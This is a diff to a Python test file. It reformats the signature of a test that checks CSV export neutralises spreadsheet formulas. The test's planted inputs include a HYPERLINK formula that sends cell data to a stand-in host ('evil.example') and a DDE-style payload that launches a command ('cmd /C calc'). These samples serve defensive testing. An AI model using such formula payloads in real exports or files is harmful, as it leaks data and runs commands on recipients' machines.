@@ -286,7 +286,9 @@ def test_bad_database_url_is_one_line(
     assert "hunter2" not in err
 
 
-def test_csv_export_neutralises_formulas(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_export_neutralises_formulas(
+    store: SqlStore, capsys: pytest.CaptureFixture[str]
+) -> None:
     planted = [
         '=HYPERLINK("https://evil.example/?x="&A1,"who owns it?")',
         "+cmd|' /C calc'!A0",
